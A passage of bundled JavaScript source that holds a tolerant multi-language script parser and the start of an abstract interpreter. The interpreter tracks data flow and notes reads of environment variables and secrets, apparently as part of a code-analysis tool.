        const loops = [];
        while (this.at < close && loops.length < 8) {
            this.takeName('async');
            if (!this.takeName('for'))
                break;
            this.noIn = true;
            const target = this.readTuple();
            this.noIn = false;
            this.takeName('in');
            const source = this.#readSumOrChain();
            loops.push({ target, source });
            while (this.at < close && !this.isName('for') && !this.isName('async')) {
                const partner = this.partnerAt(this.at);
                this.at = partner > this.at ? partner + 1 : this.at + 1;
            }
        }
        return { type: 'comprehension', start, end: this.endAt(close), element, loops };
    }
    #readSumOrChain() {
        return this.#readLoose();
    }
    #readPostfix(operand) {
        let node = operand;
        for (let guard = 0; guard < MAX_CHAIN; guard += 1) {
            const next = this.#postfix(node);
            if (!next)
                return node;
            node = next;
        }
        return node;
    }
    #postfix(node) {
        const index = this.isLine() && !this.dialect.indented && this.#chains(this.nextSolid()) ? this.nextSolid() : this.at;
        if (this.kindAt(index) === TEMPLATE && this.dialect.language === 'javascript' && (node.type === 'name' || node.type === 'member')) {
            this.at = index;
            const text = this.#readTexts();
            return { type: 'call', start: node.start, end: this.lastEnd, callee: node, args: [{ name: '', value: text }] };
        }
        if (this.kindAt(index) !== MARK)
            return undefined;
        const mark = this.sourceAt(index);
        if (this.#isMember(mark, index)) {
            this.at = index + 1;
            if (mark === '?.' && (this.isMark('(') || this.isMark('[')))
                return this.#postfix(node);
            if (this.isMark('#'))
                this.at += 1;
            if (this.isMark('[') || this.isMark('{') || this.isMark('('))
                return this.#postfix(node);
            const name = this.kindAt(this.at) === NAME ? this.sourceAt(this.at) : '';
            if (name !== '')
                this.at += 1;
            return { type: 'member', start: node.start, end: this.lastEnd, object: node, name };
        }
        if (mark === '(' ||
            mark === '[' ||
            (mark === '{' &&
                this.dialect.language === 'perl' &&
                this.startAt(index) === node.end &&
                (node.type === 'name' || node.type === 'index' || node.type === 'member')))
            return this.#readCallOrIndex(node, index, mark);
        if (mark === '!' && this.dialect.language === 'javascript' && (this.isMark('.', index + 1) || this.isMark(')', index + 1))) {
            this.at = index + 1;
            return node;
        }
        return undefined;
    }
    #chains(index) {
        return this.isMark('.', index) || this.isMark('?.', index) || this.isMark('->', index);
    }
    #isMember(mark, index) {
        if (mark === '?.' || mark === '->' || mark === '::')
            return true;
        return mark === '.' && this.dialect.joins !== '.' && this.kindAt(index + 1) !== -1;
    }
    #readCallOrIndex(node, index, mark) {
        const close = this.partnerAt(index);
        if (close < 0 || index !== this.at)
            return undefined;
        if (mark === '(') {
            const args = this.#readArguments(close);
            return { type: 'call', start: node.start, end: this.endAt(close), callee: node, args };
        }
        if (node.type === 'empty' && node.source === '')
            return undefined;
        const source = this.tokens.text.slice(this.endAt(index), Math.min(this.startAt(close), this.endAt(index) + 60)).trim();
        this.at = index + 1;
        const subscript = this.readExpression();
        this.at = close + 1;
        return { type: 'index', start: node.start, end: this.endAt(close), object: node, index: subscript, source };
    }
    #readArguments(close) {
        const args = [];
        const outerIn = this.noIn;
        this.noIn = false;
        const open = this.at;
        this.at += 1;
        while (this.at < close) {
            const before = this.at;
            this.skipLines();
            if (this.at >= close)
                break;
            args.push(this.#readArgument());
            this.skipLines();
            if (this.isName('for') && this.dialect.indented && args.length > 0) {
                const element = args.pop();
                args.push({ name: '', value: this.#readComprehension(element?.value ?? this.empty(), this.startAt(open), close) });
                break;
            }
            if (!this.takeMark(',') && this.at === before)
                this.at += 1;
            if (args.length > 2000)
                break;
        }
        this.noIn = outerIn;
        this.at = close + 1;
        return args;
    }
    #readArgument() {
        const named = this.kindAt(this.at) === NAME &&
            (this.dialect.indented
                ? this.isMark('=', this.at + 1)
                : (this.dialect.language === 'ruby' || this.dialect.language === 'php') && this.isMark(':', this.at + 1));
        if (!named)
            return { name: '', value: this.readExpression() };
        const name = this.sourceAt(this.at);
        this.at += 2;
        this.skipLines();
        return { name, value: this.readExpression() };
    }
}
/** Where an embedded expression ends: at the closing brace, or after the name. */
function endOfExpression(content, from, braced) {
    if (!braced)
        return from + (/^[A-Za-z_]\w{0,100}/u.exec(content.slice(from, from + 101))?.[0].length ?? 0);
    let depth = 1;
    const limit = Math.min(content.length, from + 5000);
    for (let at = from; at < limit; at += 1) {
        const unit = content[at];
        if (unit === '{')
            depth += 1;
        else if (unit === '}')
            depth -= 1;
        if (depth === 0)
            return at;
    }
    return limit;
}

;// CONCATENATED MODULE: ./lib/skills/code/script/parse.js



/** Longest text that is read, in UTF-16 units. */
const parse_MAX_LENGTH = 4_000_000;
/** Reads a program into a light syntax tree. Tolerant: what is no program comes out as odd nodes. Linear; never throws. */
function parse(text, dialect) {
    const reader = new ScriptReader(lex(text, dialect, 0, Math.min(text.length, parse_MAX_LENGTH)));
    const body = dialect.indented ? reader.readIndented(0) : reader.readStatements(reader.count);
    return { body, truncated: reader.truncated || text.length > parse_MAX_LENGTH };
}
const CONDITIONS = new Set([
    'if',
    'elif',
    'while',
    'except',
    'match',
    'case',
    'assert',
    'elsif',
    'unless',
    'until',
    'foreach',
    'switch',
    'catch',
    'when',
    'rescue',
]);
const parse_BARE = new Set([
    'else',
    'try',
    'finally',
    'do',
    'begin',
    'end',
    'pass',
    'break',
    'continue',
    'default',
    'ensure',
    'then',
    'export',
    'abstract',
    'loop',
    'retry',
    'BEGIN',
    'END',
]);
const DECLARERS = new Set(['const', 'let', 'var', 'my', 'our', 'local', 'static', 'global', 'nonlocal']);
class ScriptReader extends ExpressionReader {
    inner(tokens) {
        return new ScriptReader(tokens);
    }
    /** Statements of one indentation, or deeper by mistake. */
    readIndented(indent) {
        const body = [];
        if (this.depth >= token_stream_MAX_DEPTH) {
            this.truncated = true;
            while (!this.done && !(this.isLine() && this.partnerAt(this.at) < indent))
                this.at += 1;
            return body;
        }
        this.depth += 1;
        while (!this.done) {
            if (this.isLine()) {
                if (this.partnerAt(this.at) < indent)
                    break;
                this.at += 1;
                continue;
            }
            const before = this.at;
            body.push(this.#readStatement());
            if (this.at === before)
                this.at += 1;
        }
        this.depth -= 1;
        return body;
    }
    readStatements(end) {
        const body = [];
        if (this.depth >= token_stream_MAX_DEPTH) {
            this.truncated = true;
            this.at = end;
            return body;
        }
        this.depth += 1;
        while (this.at < end && !this.done) {
            if (this.isLine() || this.isMark(';')) {
                this.at += 1;
                continue;
            }
            const before = this.at;
            body.push(this.#readStatement());
            if (this.at === before)
                this.at += 1;
        }
        this.depth -= 1;
        return body;
    }
    readBraced() {
        const close = this.partnerAt(this.at);
        if (close < 0) {
            this.at += 1;
            return [];
        }
        this.at += 1;
        const outer = this.noIn;
        this.noIn = false;
        const body = this.readStatements(close);
        this.noIn = outer;
        this.at = close + 1;
        return body;
    }
    #readStatement() {
        const start = this.startAt(this.at);
        if (this.isMark('{') && !this.dialect.indented)
            return this.#block(start, [], this.readBraced());
        if (this.isMark('@') && !this.dialect.sigils)
            return this.#readDecorator();
        if (this.kindAt(this.at) !== NAME)
            return this.#readSimple();
        const word = this.sourceAt(this.at);
        if (this.isMark('=', this.at + 1) || this.isMark('.', this.at + 1))
            return this.#readSimple();
        if (word === 'import' || word === 'from' || word === 'use' || word === 'require') {
            const imported = this.#readImport(word, start);
            if (imported)
                return imported;
        }
        if (word === 'export' && this.isName('default', this.at + 1))
            this.at += 1;
        if (DECLARERS.has(word))
            return this.#readDeclaration();
        if (word === 'def' || (word === 'async' && this.isName('def', this.at + 1)))
            return this.#readDef(start);
        if ((word === 'function' || word === 'sub' || word === 'func') && this.kindAt(this.at + 1) !== -1)
            return this.readFunction(start);
        if (word === 'class' || word === 'interface' || word === 'namespace' || word === 'module' || word === 'struct')
            return this.#readClass(start);
        if (word === 'for' || word === 'foreach')
            return this.#readFor(start);
        if (word === 'with' && this.dialect.indented)
            return this.#readWith(start);
        if (word === 'return') {
            this.at += 1;
            const value = this.isLine() || this.isMark(';') || this.isMark('}') ? this.empty() : this.readTuple();
            return { type: 'return', start, end: this.lastEnd, value };
        }
        if (CONDITIONS.has(word))
            return this.#readCondition(start);
        if (parse_BARE.has(word)) {
            this.at += 1;
            if (this.dialect.indented && this.takeMark(':'))
                return this.#block(start, [], this.#readSuite());
            return this.isMark('{') ? this.#block(start, [], this.readBraced()) : this.empty();
        }
        return this.#readSimple();
    }
    #block(start, head, body) {
        return { type: 'block', start, end: this.lastEnd, body: [...head, ...body] };
    }
    #readDecorator() {
        this.at += 1;
        const node = this.readExpression();
        return node;
    }
    /** An expression statement; in Ruby and Perl also a call without brackets: `system "ls"`. */
    #readSimple() {
        const first = this.readTuple();
        if (!this.dialect.sigils || (first.type !== 'name' && first.type !== 'member')) {
            this.#skipAnnotation();
            return this.isMark('=') ? this.#lateAssignment(first) : first;
        }
        const kind = this.kindAt(this.at);
        if (kind !== TEXT && kind !== TEMPLATE && kind !== NAME && !this.isMark('['))
            return first;
        const value = this.readTuple();
        const items = value.type === 'list' ? value.items : [value];
        return { type: 'call', start: first.start, end: this.lastEnd, callee: first, args: items.map((item) => ({ name: '', value: item })) };
    }
    /** `name: Type = value`. */
    #skipAnnotation() {
        if (!this.isMark(':') || this.dialect.language === 'ruby')
            return;
        const limit = this.at + 30;
        for (let index = this.at + 1; index < limit; index += 1) {
            if (this.isMark('=', index)) {
                this.at = index;
                return;
            }
            const kind = this.kindAt(index);
            if (kind !== NAME && kind !== TEXT && !(kind === MARK && /^[[\]<>|.,]$/u.test(this.sourceAt(index))))
                return;
        }
    }
    #lateAssignment(target) {
        this.at += 1;
        this.skipLinesUnlessIndented();
        const value = this.readTuple();
        return { type: 'assign', start: target.start, end: this.lastEnd, target, operator: '=', value };
    }
    #readDeclaration() {
        const start = this.startAt(this.at);
        this.at += 1;
        const body = [];
        for (let guard = 0; guard < 500; guard += 1) {
            this.skipLinesUnlessIndented();
            const target = this.isMark('{') || this.isMark('[') || this.isMark('(') ? this.readExpression() : this.#readDeclared();
            if (target.type === 'assign')
                body.push({ ...target, operator: 'declare' });
            else {
                this.#skipAnnotation();
                body.push(this.isMark('=') ? this.#assignOne(target) : target);
            }
            if (!this.takeMark(','))
                break;
        }
        return body.length === 1 && body[0] ? body[0] : this.#block(start, [], body);
    }
    #readDeclared() {
        const node = { type: 'name', start: this.startAt(this.at), end: this.endAt(this.at), name: this.sourceAt(this.at) };
        if (this.kindAt(this.at) === NAME)
            this.at += 1;
        return node;
    }
    #assignOne(target) {
        this.at += 1;
        this.skipLines();
        const value = this.readExpression();
        return { type: 'assign', start: target.start, end: this.lastEnd, target, operator: 'declare', value };
    }
    /** A Python or Ruby function. Ruby's body is read in place, as its end is no bracket. */
    #readDef(start) {
        while (!this.isName('def'))
            this.at += 1;
        this.at += 1;
        const name = this.sourceAt(this.at);
        this.at += 1;
        if (this.dialect.language === 'ruby') {
            const close = this.isMark('(') ? this.partnerAt(this.at) : -1;
            if (close > 0)
                this.at = close + 1;
            return this.empty();
        }
        const parameters = this.#readDefParameters();
        while (!this.done && !this.isMark(':') && !this.isLine())
            this.at += 1;
        this.takeMark(':');
        const body = this.#readSuite();
        return { type: 'function', start, end: this.lastEnd, name, parameters, body, expression: false };
    }
    #readDefParameters() {
        const close = this.isMark('(') ? this.partnerAt(this.at) : -1;
        const parameters = [];
        if (close < 0)
            return parameters;
        let expects = true;
        for (let index = this.at + 1; index < close; index += 1) {
            if (this.isMark(',', index))
                expects = true;
            else if (expects && this.kindAt(index) === NAME) {
                parameters.push({ type: 'name', start: this.startAt(index), end: this.endAt(index), name: this.sourceAt(index) });
                expects = false;
            }
            const partner = this.partnerAt(index);
            if (partner > index)
                index = partner;
        }
        this.at = close + 1;
        return parameters;
    }
    /** What follows a colon: the rest of the line, or an indented block. */
    #readSuite() {
        if (!this.isLine()) {
            const body = [];
            while (!this.done && !this.isLine()) {
                const before = this.at;
                body.push(this.#readStatement());
                if (!this.takeMark(';') && this.at === before)
                    this.at += 1;
            }
            return body;
        }
        const indent = this.partnerAt(this.at);
        return indent > this.#indentOfLineBefore() ? this.readIndented(indent) : [];
    }
    /** The indentation of the line on which the position stands. */
    #indentOfLineBefore() {
        const text = this.tokens.text;
        const position = this.startAt(this.at);
        for (let index = this.at - 1; index >= 0; index -= 1)
            if (this.isLine(index))
                return this.partnerAt(index);
        const lineStart = text.lastIndexOf('\n', position - 1) + 1;
        return /^[ \t]*/u.exec(text.slice(lineStart, lineStart + 200))?.[0].length ?? 0;
    }
    #readClass(start) {
        this.at += 1;
        if (this.dialect.indented) {
            while (!this.done && !this.isMark(':') && !this.isLine()) {
                const partner = this.partnerAt(this.at);
                this.at = partner > this.at ? partner + 1 : this.at + 1;
            }
            this.takeMark(':');
            return this.#block(start, [], this.#readSuite());
        }
        let index = this.at;
        while (index < this.at + 40 && !this.isMark('{', index) && !this.isMark(';', index))
            index += 1;
        if (!this.isMark('{', index))
            return this.empty();
        this.at = index;
        return this.#block(start, [], this.#readMembers());
    }
    /** Members of a class: methods as functions, fields as assignments. */
    #readMembers() {
        const close = this.partnerAt(this.at);
        if (close < 0) {
            this.at += 1;
            return [];
        }
        this.at += 1;
        const body = [];
        while (this.at < close) {
            const before = this.at;
            if (this.isLine() || this.isMark(';')) {
                this.at += 1;
                continue;
            }
            const start = this.startAt(this.at);
            while (/^(?:public|private|protected|static|async|readonly|get|set|override|abstract|final|function|\*|#)$/u.test(this.sourceAt(this.at)) &&
                !this.isMark('(', this.at + 1))
                this.at += 1;
            const name = this.sourceAt(this.at);
            if (this.kindAt(this.at) === NAME && this.isMark('(', this.at + 1)) {
                this.at += 1;
                body.push(this.readFunctionRest(start, name));
            }
            else
                body.push(this.#readSimple());
            if (this.at === before)
                this.at += 1;
        }
        this.at = close + 1;
        return body;
    }
    #readFor(start) {
        this.at += 1;
        this.takeName('await');
        const bracketed = this.isMark('(') && !this.dialect.indented;
        const close = bracketed ? this.partnerAt(this.at) : -1;
        if (bracketed && close > 0)
            this.at += 1;
        while (DECLARERS.has(this.sourceAt(this.at)))
            this.at += 1;
        this.noIn = true;
        const target = this.readTuple();
        this.noIn = false;
        const named = this.takeName('in') || this.takeName('of');
        const source = named || this.takeMark(':=') || this.takeName('as') ? this.readTuple() : this.empty();
        const rest = [];
        if (close > 0) {
            while (this.at < close) {
                const before = this.at;
                if (!this.takeMark(';'))
                    rest.push(this.readExpression());
                if (this.at === before)
                    this.at += 1;
            }
            this.at = close + 1;
        }
        const body = this.#readBody();
        return { type: 'loop', start, end: this.lastEnd, target, source, body: [...rest, ...body] };
    }
    /** The block of a compound statement in any dialect. */
    #readBody() {
        if (this.dialect.indented) {
            while (!this.done && !this.isMark(':') && !this.isLine())
                this.at += 1;
            this.takeMark(':');
            return this.#readSuite();
        }
        const index = this.nextSolid();
        if (!this.isMark('{', index))
            return [];
        this.at = index;
        return this.readBraced();
    }
    #readWith(start) {
        this.at += 1;
        const head = [];
        const close = this.isMark('(') ? this.partnerAt(this.at) : -1;
        if (close > 0 && this.isMark(':', close + 1))
            this.at += 1;
        for (let guard = 0; guard < 50; guard += 1) {
            this.skipWithinBrackets(close);
            const value = this.readExpression();
            const named = value.type === 'join' && value.operator === 'as';
            if (named) {
                const target = this.#lastName();
                head.push({ type: 'assign', start: value.start, end: this.lastEnd, target, operator: '=', value: value.parts[0] ?? value });
            }
            else if (this.takeName('as')) {
                const target = this.readExpression();
                head.push({ type: 'assign', start: value.start, end: this.lastEnd, target, operator: '=', value });
            }
            else
                head.push(value);
            if (!this.takeMark(','))
                break;
        }
        if (close > 0 && this.at <= close)
            this.at = close + 1;
        const body = this.#readBody();
        return this.#block(start, head, body);
    }
    skipWithinBrackets(close) {
        if (close > 0)
            this.skipLines();
    }
    /** The name just read as a type by `as`, which in `with` is the target. */
    #lastName() {
        const index = this.at - 1;
        return { type: 'name', start: this.startAt(index), end: this.endAt(index), name: this.sourceAt(index) };
    }
    #readCondition(start) {
        this.at += 1;
        const head = [];
        if (this.isMark('{'))
            return this.#block(start, [], this.readBraced());
        if (!this.isMark(':') && !this.isLine())
            head.push(this.readTuple());
        while (this.takeMark(';'))
            head.push(this.readTuple());
        if (this.dialect.indented)
            return this.#block(start, head, this.#readBody());
        const index = this.nextSolid();
        if (!this.isMark('{', index))
            return this.#block(start, head, []);
        this.at = index;
        return this.#block(start, head, this.readBraced());
    }
    #readImport(word, start) {
        if (this.dialect.language === 'python')
            return word === 'from' ? this.#readFromImport(start) : this.#readPlainImport(start);
        if (this.dialect.language === 'javascript' && word === 'import' && !this.isMark('(', this.at + 1))
            return this.#readModuleImport(start);
        return undefined;
    }
    #readDotted() {
        let name = '';
        while (this.kindAt(this.at) === NAME || this.isMark('.') || this.isMark('...')) {
            if (this.kindAt(this.at) === NAME && (this.isName('import') || this.isName('as')))
                break;
            name += this.sourceAt(this.at);
            this.at += 1;
        }
        return name;
    }
    #readPlainImport(start) {
        this.at += 1;
        const body = [];
        do {
            const module = this.#readDotted();
            const local = this.takeName('as') ? this.sourceAt(this.at++) : (module.split('.')[0] ?? '');
            const bound = local === module.split('.')[0] && module.includes('.') ? (module.split('.')[0] ?? '') : module;
            body.push({ type: 'import', start, end: this.lastEnd, module: bound, bindings: [{ local, member: '' }] });
        } while (this.takeMark(','));
        return this.#block(start, [], body);
    }
    #readFromImport(start) {
        this.at += 1;
        const module = this.#readDotted();
        const bindings = [];
        if (this.takeName('import')) {
            const close = this.isMark('(') ? this.partnerAt(this.at) : -1;
            if (close > 0)
                this.at += 1;
            for (let guard = 0; guard < 300; guard += 1) {
                if (close > 0)
                    this.skipLines();
                const member = this.sourceAt(this.at);
                if (this.kindAt(this.at) !== NAME && member !== '*')
                    break;
                this.at += 1;
                const local = this.takeName('as') ? this.sourceAt(this.at++) : member;
                bindings.push({ local, member });
                if (!this.takeMark(','))
                    break;
            }
            if (close > 0)
                this.at = close + 1;
        }
        return { type: 'import', start, end: this.lastEnd, module, bindings };
    }
    /** `import a, { b as c }, * as d from 'module'`. */
    #readModuleImport(start) {
        this.at += 1;
        this.takeName('type');
        const bindings = [];
        for (let guard = 0; guard < 300 && !this.done; guard += 1) {
            if (this.kindAt(this.at) === TEXT)
                break;
            if (this.takeName('from') ||
                this.takeMark(',') ||
                this.takeMark('{') ||
                this.takeMark('}') ||
                this.takeMark('*') ||
                this.takeName('as'))
                continue;
            if (this.isLine()) {
                this.at += 1;
                continue;
            }
            if (this.kindAt(this.at) !== NAME)
                return this.empty();
            const member = this.sourceAt(this.at);
            const inBraces = this.isMark('{', this.at - 1) || this.isMark(',', this.at - 1) || this.isLine(this.at - 1);
            this.at += 1;
            const local = this.isName('as') ? this.sourceAt(this.at + 1) : member;
            if (local !== member)
                this.at += 2;
            bindings.push({ local, member: inBraces ? member : '' });
        }
        const module = this.kindAt(this.at) === TEXT ? this.sourceAt(this.at).slice(1, -1) : '';
        if (this.kindAt(this.at) === TEXT)
            this.at += 1;
        return { type: 'import', start, end: this.lastEnd, module, bindings };
    }
}

;// CONCATENATED MODULE: ./lib/skills/code/script/scope.js

const MAX_NAMES = 5000;
/** The names of one function, within those of the code around it. */
class Scope {
    #names = new Map();
    #outer;
    constructor(outer) {
        this.#outer = outer;
    }
    get(name) {
        return this.#names.get(name) ?? this.#outer?.get(name);
    }
    set(name, value) {
        if (this.#names.size < MAX_NAMES || this.#names.has(name))
            this.#names.set(name, value);
    }
    /** Sets a name where it was declared; here when it was nowhere. */
    assign(name, value) {
        this.#owner(name, this).set(name, value);
    }
    /** State of an object is shared by the functions of the file. */
    setShared(name, value) {
        if (this.#outer)
            this.#outer.setShared(name, value);
        else
            this.set(name, value);
    }
    /** Adds data to what a name stands for: `list.append(x)`. */
    feed(name, data) {
        const before = this.get(name);
        const origins = before === undefined ? data.origins : union(before.origins, data.origins);
        if (before?.origins === origins)
            return;
        const fed = before === undefined ? { text: '', known: false, origins } : { ...before, origins };
        if (name.includes('.') || !this.#names.has(name))
            this.#owner(name, this).set(name, fed);
        else
            this.set(name, fed);
    }
    #owner(name, otherwise) {
        if (this.#names.has(name))
            return this;
        return this.#outer ? this.#outer.#owner(name, otherwise) : otherwise;
    }
}

;// CONCATENATED MODULE: ./lib/skills/code/script/text-methods.js



/** Methods of texts and lists that put texts together or take them apart, carried out on known values; undefined for others. */
function applyTextMethod(method, receiver, args) {
    const [first, second] = args;
    const origins = union(receiver.origins, originsOf(args));
    switch (method) {
        case 'join':
            return joined(receiver, first, origins);
        case 'reverse':
        case 'reversed':
            return receiver.items
                ? { ...receiver, items: [...receiver.items].reverse() }
                : receiver.known
                    ? literal(reversed(receiver.text) ?? '', origins)
                    : undefined;
        case 'split':
            return receiver.known && first?.known === true
                ? {
                    ...derived(origins),
                    items: receiver.text
                        .split(first.text)
                        .slice(0, 2000)
                        .map((piece) => literal(piece, origins)),
                }
                : undefined;
        case 'replace':
        case 'replaceAll':
        case 'gsub':
            return receiver.known && first?.known === true && second?.known === true
                ? literal(replaced(receiver.text, first.text, second.text), origins)
                : undefined;
        case 'concat':
            return receiver.items ? undefined : concat([receiver, ...args]);
        case 'format':
            return formatted(receiver, args, origins);
        case 'encode':
        case 'decode':
        case 'toString':
        case 'strip':
        case 'trim':
        case 'lstrip':
        case 'rstrip':
        case 'chomp':
        case 'absolute':
        case 'resolve':
        case 'expanduser':
        case 'as_posix':
        case 'valueOf':
            return receiver.text === '' ? undefined : { ...receiver, origins };
        case 'lower':
        case 'toLowerCase':
            return receiver.known ? literal(receiver.text.toLowerCase(), origins) : undefined;
        case 'upper':
        case 'toUpperCase':
            return receiver.known ? literal(receiver.text.toUpperCase(), origins) : undefined;
        default:
            return undefined;
    }
}
/** Python's `sep.join(list)` and JavaScript's `list.join(sep)`. */
function joined(receiver, first, origins) {
    const items = receiver.items ?? first?.items;
    const separator = receiver.items ? (first?.text ?? ',') : receiver.text;
    return items ? { ...concat(items, separator), origins } : derived(origins, first?.text ?? '');
}
function replaced(text, from, to) {
    const pattern = /^\/(.{1,40})\/[a-z]{0,4}$/su.exec(from)?.[1];
    const plain = pattern === undefined ? from : pattern.replace(/\\(.)/gu, '$1');
    return plain === '' || (pattern !== undefined && /[[\](){}*+?^$|]/u.test(pattern)) ? text : text.split(plain).join(to);
}
function formatted(receiver, args, origins) {
    if (!receiver.known)
        return undefined;
    let next = 0;
    const text = receiver.text.replace(/\{(\d{0,2})(?:[:!][^{}]{0,20})?\}/gu, (whole, index) => {
        const value = args[index === '' ? next : Number(index)];
        next += 1;
        return value && value.text !== '' ? value.text : whole;
    });
    return { text, known: args.every((arg) => arg.known), origins };
}
/** Slices and single letters of a known text: `[::-1]`, `[2:5]`, `[3]`. */
function sliceOf(value, source) {
    const slice = /^(-?\d{0,6}):(-?\d{0,6})(?::(-?\d{0,3}))?$/u.exec(source.replace(/\s/gu, ''));
    if (slice) {
        const step = slice[3] === undefined || slice[3] === '' ? 1 : Number(slice[3]);
        const from = slice[1] === '' ? undefined : Number(slice[1]);
        const to = slice[2] === '' ? undefined : Number(slice[2]);
        if (step === -1 && from === undefined && to === undefined)
            return literal(reversed(value.text) ?? '', value.origins);
        if (step < 1)
            return derived(value.origins);
        const cut = value.text.slice(from, to);
        return literal(step === 1 ? cut : [...cut].filter((_, index) => index % step === 0).join(''), value.origins);
    }
    if (/^-?\d{1,6}$/u.test(source))
        return literal(value.text.at(Number(source)) ?? '', value.origins);
    return derived(value.origins.length > 0 ? value.origins : NO_ORIGINS);
}

;// CONCATENATED MODULE: ./lib/skills/code/script/run.js






const run_MAX_STEPS = 300_000;
const MAX_CALL_DEPTH = 8;
/** How often one function of the program is followed with the arguments of a caller. */
const run_MAX_ENTRIES = 8;
/** Elements of a list over which a loop is followed one by one. */
const MAX_TURNS = 12;
/** Methods that put their arguments into their object. */
const MUTATORS = new Set([
    'append',
    'push',
    'extend',
    'update',
    'add',
    'insert',
    'unshift',
    'set',
    'setdefault',
    'put',
    'write',
    'writestr',
    'concat',
    'connect',
    'attach',
    'set_payload',
    'add_attachment',
    'set_content',
    'add_header',
    'addFile',
    'append_data',
    'add_field',
    'appendleft',
    'assign',
    'headers',
]);
/** Follows a program of a language with expressions and notes what it does. */
function followScript(text, dialect, knowledge, reading) {
    const script = parse(text, dialect);
    if (script.truncated)
        reading.trace.truncated = true;
    return new ScriptRun(dialect, knowledge, reading).program(script.body);
}
class ScriptRun {
    #dialect;
    #knowledge;
    #reading;
    #functions = new Map();
    #entered = new Map();
    #active = new Set();
    /** Functions that did nothing of note when they were followed: they are not followed again. */
    #dull = new Set();
    #state = { peer: UNKNOWN };
    #steps = 0;
    #returned = [];
    constructor(dialect, knowledge, reading) {
        this.#dialect = dialect;
        this.#knowledge = knowledge;
        this.#reading = reading;
    }
    program(body) {
        const scope = new Scope();
        this.#declare(body, 0);
        let last = NOTHING;
        for (const node of body)
            last = this.#run(node, scope);
        for (const declared of this.#functions.values())
            if (!this.#entered.has(declared))
                this.#invoke(declared, scope, []);
        return last;
    }
    /** Functions are known before their definition is reached. */
    #declare(body, depth) {
        for (const node of body) {
            if (node.type === 'function' && node.name !== '' && !this.#functions.has(node.name))
                this.#functions.set(node.name, node);
            if (node.type === 'function' && depth < 6)
                this.#declare(node.body, depth + 1);
            if (node.type === 'block' && depth < 6)
                this.#declare(node.body, depth + 1);
            if (node.type === 'assign' && node.value.type === 'function')
                this.#declare([{ ...node.value, name: node.target.type === 'name' ? node.target.name : '' }], depth + 1);
        }
    }
    #run(node, scope) {
        this.#steps += 1;
        if (this.#steps > run_MAX_STEPS) {
            this.#reading.trace.truncated = true;
            return UNKNOWN;
        }
        switch (node.type) {
            case 'text':
                return { ...literal(node.text), ...(node.exact < 0 ? {} : { exact: node.exact }) };
            case 'empty':
                return node.source === '' ? UNKNOWN : { ...literal(node.source) };
            case 'name':
                return this.#name(node, scope);
            case 'member':
                return this.#member(node, scope);
            case 'index':
                return this.#index(node, scope);
            case 'call':
                return this.#call(node, scope);
            case 'join':
                return this.#join(node, scope);
            case 'list':
                return this.#list(node, scope);
            case 'comprehension':
                return this.#comprehension(node, scope);
            case 'function':
                return this.#functionValue(node, scope);
            case 'assign':
                return this.#assign(node, scope);
            case 'command':
                return this.#backticks(node.line, node, scope);
            default:
                return this.#statement(node, scope);
        }
    }
    #statement(node, scope) {
        if (node.type === 'return') {
            const value = this.#run(node.value, scope);
            this.#returned.push(value);
            return value;
        }
        if (node.type === 'import') {
            const module = this.#knowledge.moduleName(node.module);
            for (const { local, member } of node.bindings)
                scope.set(local, { ...UNKNOWN, ref: member === '' ? module : `${module}.${member}` });
            return NOTHING;
        }
        if (node.type === 'loop')
            return this.#loop(node, scope);
        let last = NOTHING;
        for (const inner of node.body)
            last = this.#run(inner, scope);
        return last;
    }
    #loop(node, scope) {
        const source = this.#run(node.source, scope);
        const items = source.items ?? (source.entries ? [...source.entries.values()] : undefined);
        const turns = items && items.length <= MAX_TURNS && items.length > 0 ? items : [derived(source.origins)];
        for (const item of turns) {
            this.#bind(node.target, { ...item, origins: union(item.origins, source.origins) }, scope);
            for (const inner of node.body)
                this.#run(inner, scope);
        }
        return NOTHING;
    }
    #name(node, scope) {
        const known = scope.get(node.name);
        if (known)
            return known.text === '' && !known.known && known.ref === undefined ? { ...known, text: `{${node.name}}` } : known;
        const declared = this.#functions.get(node.name);
        if (declared)
            return this.#functionValue(declared, scope);
        if (this.#knowledge.globals.has(node.name))
            return this.#reference(node.name, node);
        return derived(NO_ORIGINS, `{${node.name}}`);
    }
    /** A value that is known by its canonical name; mentioning the whole environment reads it. */
    #reference(ref, node, reflected = false) {
        const value = { ...UNKNOWN, ref, ...(reflected ? { reflected } : {}) };
        const secret = this.#knowledge.secrets.get(ref);
        if (secret)
            return {
                ...value,
                origins: plus(NO_ORIGINS, this.#reading.note({ kind: 'read', start: node.start, end: node.end, name: ref, subject: secret, target: ref })),
            };
        if (!this.#knowledge.environment.has(ref))
            return value;
        const deed = this.#reading.note({ kind: 'read', start: node.start, end: node.end, name: ref, subject: 'environment', target: ref });
        return { ...value, origins: plus(NO_ORIGINS, deed) };
    }
    #member(node, scope) {
        const path = pathOf(node);
        const kept = path === '' ? undefined : scope.get(path);
        if (kept)
            return kept;
        const environment = this.#environmentMember(node.object, node.name, node, scope);
        if (environment)
            return environment;
        const object = this.#run(node.object, scope);
        const entry = object.entries?.get(node.name);
        if (entry)
            return entry;
        if (object.ref !== undefined) {
            const whole = this.#reference(`${object.ref}.${node.name}`.slice(0, 160), node, object.reflected);
            return { ...whole, origins: union(object.origins, whole.origins) };
        }
        return {
            ...derived(object.origins, object.text === '' ? '' : object.text),
            ...(object.handle ? { handle: object.handle } : {}),
            ...(object.known ? { text: object.text } : {}),
        };
    }
    /** `process.env.NAME`, `os.environ['NAME']`: one variable, not the whole. */
    #environmentMember(object, name, node, scope) {
        const ref = this.#refOf(object, scope);
        if (ref === undefined || !this.#knowledge.environment.has(ref))
            return undefined;
        if (name !== undefined && /^(?:items|keys|values|copy|entries|to_h|inspect|map|each)$/u.test(name))
            return undefined;
        if (name === 'get' || name === 'fetch' || name === 'setdefault' || name === 'pop')
            return { ...UNKNOWN, ref: `${ref}.get` };
        if (name === undefined)
            return undefined;
        if (/^(?:HOME|USERPROFILE)$/u.test(name))
            return derived(NO_ORIGINS, '~');
        const deed = this.#reading.note({
            kind: 'read',
            start: node.start,
            end: node.end,
            name: ref,
            subject: 'environment-variable',
            target: name,
        });
        return derived(plus(NO_ORIGINS, deed), `$${name}`);
    }
    /** The canonical name of an expression, without the deeds of evaluating it. */
    #refOf(node, scope) {
        if (node.type === 'name')
            return scope.get(node.name)?.ref ?? (this.#knowledge.globals.has(node.name) ? node.name : undefined);
        if (node.type !== 'member')
            return undefined;
        const object = this.#refOf(node.object, scope);
        return object === undefined ? undefined : `${object}.${node.name}`;
    }
    #index(node, scope) {
        const key = node.index.type === 'text' ? node.index.text : undefined;
        const environment = this.#environmentMember(node.object, key, node, scope);
        if (environment)
            return environment;
